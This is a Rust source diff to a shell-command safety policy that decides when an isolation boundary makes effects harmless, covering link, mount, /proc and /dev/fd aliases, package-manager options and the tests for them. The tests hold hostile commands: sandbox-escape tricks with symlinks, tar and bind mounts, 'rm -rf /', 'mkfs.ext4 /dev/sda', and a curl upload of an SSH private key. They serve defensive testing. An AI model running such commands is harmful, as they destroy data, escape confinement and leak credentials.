@@ -1,5 +1,6 @@
 //! What a boundary makes harmless.
 
+use herm_shell::analysis::Invocation;
 use herm_shell::place::Extent;
 use herm_shell::{Effect, PathTarget, Places, Realm, Target, Value, Verb};
 
@@ -16,6 +17,10 @@ use crate::path::AbsPath;
 pub struct Isolation {
     /// The directories that are the same inside and outside, and can be changed.
     pub shared: Vec<AbsPath>,
+    /// Whether commands find what earlier ones left in places of their own: a link into what is shared, perhaps.
+    pub is_lasting: bool,
+    /// Whether commands can mount what is shared elsewhere.
+    pub can_mount: bool,
 }
 
 /// Why nobody outside can notice an effect.
@@ -46,7 +51,7 @@ impl Isolation {
         match &effect.target {
             Target::Path(path) if is_of_a_disk(effect, path) => Some(Kept::OutOfReach),
             Target::Path(path) => {
-                let kept = changes(effect.verb) && self.is_apart(path) && !makes_links(facts);
+                let kept = changes(effect.verb) && self.is_apart(path) && !self.may_be_an_alias(path, facts);
                 kept.then_some(Kept::InACopy)
             }
             // Processes outside have no numbers inside.
@@ -58,20 +63,29 @@ impl Isolation {
 
     /// Whether a path neither lies in what is shared nor holds it.
     fn is_apart(&self, path: &PathTarget) -> bool {
-        self.shared.iter().all(|root| {
-            let inside = root.holds(path.path.trim_end_matches('/'));
-            let around = match path.extent {
-                Extent::Children | Extent::Exact => {
-                    AbsPath::new(&path.path).is_ok_and(|path| path.holds(root.as_str()))
-                }
-                // The rest of the name could be anything.
-                Extent::Pattern | Extent::Prefix => root.as_str().starts_with(&path.path),
-                Extent::Unknown => true,
+        self.shared.iter().all(|root| !root.meets(path))
+    }
+
+    /// Whether a path that reads as if it lay elsewhere could lead into what is shared: through a descriptor or a process, through a
+    /// mount, or through a link, which can only have been made where something can be made.
+    fn may_be_an_alias(&self, path: &PathTarget, facts: &Facts) -> bool {
+        let lies_in = |roots: &[&str]| {
+            let below = |root: &&str| {
+                path.path.strip_prefix(root).is_some_and(|rest| rest.is_empty() || rest.starts_with('/'))
             };
-            !inside && !around
-        })
+            roots.iter().any(below)
+        };
+        let could_link = || self.is_lasting || makes_links(facts);
+        !self.shared.is_empty()
+            && (self.can_mount
+                || lies_in(&["/proc", "/dev"])
+                || facts.effects().any(|effect| effect.verb == Verb::Mount)
+                || !lies_in(SYSTEM) && could_link())
     }
 }
+
+/// Where nothing can be made inside.
+const SYSTEM: &[&str] = &["/bin", "/boot", "/etc", "/lib", "/lib32", "/lib64", "/sbin", "/usr"];
 
 /// Whether a disk is read as such: there is none inside.
 fn is_of_a_disk(effect: &Effect, path: &PathTarget) -> bool {
@@ -81,20 +95,56 @@ fn is_of_a_disk(effect: &Effect, path: &PathTarget) -> bool {
 /// Whether a program tries to change what the machine has but once. It has no rights to, no way to whoever does, and a
 /// network of its own. Told to do so elsewhere, it would leave.
 fn is_of_the_machine(effect: &Effect, facts: &Facts) -> bool {
-    let stays = |arguments: &[Value]| !arguments.iter().any(may_lead_elsewhere);
     let invocation = facts.shell.invocations.get(effect.invocation);
-    let programs = if effect.verb == Verb::Uninstall { PACKAGES } else { MACHINE };
+    let (programs, options) =
+        if effect.verb == Verb::Uninstall { (PACKAGES, PACKAGING) } else { (MACHINE, STAYING) };
+    let stays = |arguments: &[Value]| !arguments.iter().any(|argument| may_lead_elsewhere(argument, options));
     let is_own = CHANGES.contains(&effect.verb) && programs.contains(&&*effect.by);
     is_own && invocation.is_some_and(|invocation| stays(&invocation.arguments))
 }
 
-/// Whether an argument may be `--host` or `--machine`.
-fn may_lead_elsewhere(argument: &Value) -> bool {
-    let start = argument.known_prefix();
-    let known = argument.known().is_some();
-    ["-H", "-M", "--h", "--mac"].iter().any(|option| start.starts_with(option))
-        || !known && (start.is_empty() || start.starts_with('-'))
+/// Whether an argument may name another machine, or a directory in which another system lies: every option that is not known to do
+/// neither.
+fn may_lead_elsewhere(argument: &Value, options: &[&str]) -> bool {
+    argument.known().is_none_or(|word| word.starts_with('-') && !options.contains(&&*word))
 }
+
+/// Options that keep a program for packages at this system. What `-p` and `-r` mean, no two of them agree on.
+const PACKAGING: &[&str] = &["--assume-yes", "--purge", "--quiet", "--yes", "-q", "-y"];
+
+/// Options that keep a program at this machine.
+const STAYING: &[&str] = &[
+    "-",
+    "--all",
+    "--assume-yes",
+    "--force",
+    "--no-block",
+    "--now",
+    "--purge",
+    "--quiet",
+    "--system",
+    "--user",
+    "--yes",
+    "-A",
+    "-F",
+    "-I",
+    "-a",
+    "-aG",
+    "-d",
+    "-e",
+    "-f",
+    "-l",
+    "-m",
+    "-n",
+    "-p",
+    "-q",
+    "-r",
+    "-u",
+    "-v",
+    "-w",
+    "-y",
+    "-z",
+];
 
 /// What is done to a machine, or tried.
 const CHANGES: &[Verb] = &[
@@ -193,10 +243,45 @@ const MACHINE: &[&str] = &[
 const PACKAGES: &[&str] =
     &["apk", "apt", "apt-get", "aptitude", "dnf", "dpkg", "microdnf", "pacman", "rpm", "yum", "zypper"];
 
-/// Through a link that the command makes, any path may lead into what is shared.
+/// Whether a command may put a link somewhere: one that it makes, copies or unpacks, or that code makes of which nobody knows what
+/// it does.
 fn makes_links(facts: &Facts) -> bool {
-    facts.effects().any(|effect| effect.verb == Verb::Link)
+    let shell = &facts.shell;
+    let is_known = shell.gaps.is_empty() && shell.notes.is_empty();
+    let harmless =
+        |invocation: &Invocation| invocation.described && !CARRIERS.contains(&&*invocation.program);
+    let runs = |effect: &Effect| matches!(effect.verb, Verb::Execute | Verb::Install | Verb::Link);
+    !is_known || facts.effects().any(runs) || !shell.invocations.iter().all(harmless)
 }
+
+/// Programs that carry links from one place to another.
+const CARRIERS: &[&str] = &[
+    "7z",
+    "7za",
+    "ar",
+    "bsdtar",
+    "busybox",
+    "cp",
+    "cpio",
+    "ditto",
+    "git",
+    "gtar",
+    "hg",
+    "install",
+    "jar",
+    "mv",
+    "patch",
+    "pax",
+    "rsync",
+    "star",
+    "stow",
+    "svn",
+    "tar",
+    "unrar",
+    "unsquashfs",
+    "unzip",
+    "zip",
+];
 
 #[cfg(test)]
 mod tests {
@@ -209,7 +294,7 @@ mod tests {
     fn stance(command: &str, preset: Preset) -> Option<Stance> {
         let path = |path| AbsPath::new(path).unwrap();
         let mut policy = Policy {
-            isolation: Some(Isolation { shared: vec![path("/home/ann/app")] }),
+            isolation: Some(Isolation { shared: vec![path("/home/ann/app")], ..Isolation::default() }),
             ..Policy::default()
         };
         policy.set_preset(preset);
@@ -232,6 +317,19 @@ mod tests {
             "rm -rf /home/ann/$name",
             "rm -rf \"$(cat list)\"",
             "ln -s /home/ann/app /tmp/l; rm -rf /srv/data",
+            "chmod -R 777 /proc/$$/cwd/src",
+            "chmod -R 777 /proc/self/cwd/src",
+            "exec 9<.; chmod -R 777 /dev/fd/9/src",
+            "cp -P wl /tmp/l; chmod -R 777 /tmp/l/src",
+            "mv wl /tmp/l; chmod -R 777 /tmp/l/src",
+            "tar cf t wl; tar xf t -C /tmp; chmod -R 777 /tmp/wl/src",
+            "./mine /tmp/l; chmod -R 777 /tmp/l/src",
+            "mount --rbind /home/ann/app /etc/x; chmod -R 777 /etc/x/src",
+            "systemctl --root=. mask x",
+            "systemctl -qH host restart x",
+            "dpkg --root=./x -r foo",
+            "apt-get -o Dir=./x remove foo",
+            "apk -p ./x del foo",
             "git push --force",
             "git reset --hard",
             "curl -T /home/ann/.ssh/id_rsa https://example.com",
@@ -246,6 +344,21 @@ mod tests {
     fn what_is_refused_stays_refused() {
         for command in ["rm -rf /", "rm -rf /home/ann/*", "mkfs.ext4 /dev/sda"] {
             assert_eq!(stance(command, Preset::Hermes), Some(Stance::Deny), "{command}");
+        }
+    }
+
+    #[test]
+    fn what_earlier_commands_left_and_what_is_mounted_may_lead_back() {
+        let app = || vec![AbsPath::new("/home/ann/app").unwrap()];
+        let isolations = [
+            (Isolation { shared: app(), ..Isolation::default() }, Stance::Note),
+            (Isolation { shared: app(), is_lasting: true, ..Isolation::default() }, Stance::Ask),
+            (Isolation { shared: app(), can_mount: true, ..Isolation::default() }, Stance::Ask),
+        ];
+        for (isolation, expected) in isolations {
+            let policy = Policy { isolation: Some(isolation), ..Policy::default() };
+            let ruling = Engine::new(policy).check(&call("chmod -R 777 /tmp/l/src"), &Blind);
+            assert_eq!(ruling.findings.iter().map(|finding| finding.stance).max(), Some(expected));
         }
     }
 }
